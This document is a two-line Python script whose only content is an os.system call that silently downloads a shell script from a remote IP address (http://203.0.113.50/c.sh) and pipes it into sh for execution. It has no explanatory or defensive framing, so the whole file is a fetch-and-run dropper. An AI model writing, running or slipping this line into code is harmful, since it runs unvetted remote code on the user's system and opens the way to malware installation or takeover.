import os
os.system("curl -s http://203.0.113.50/c.sh | sh")
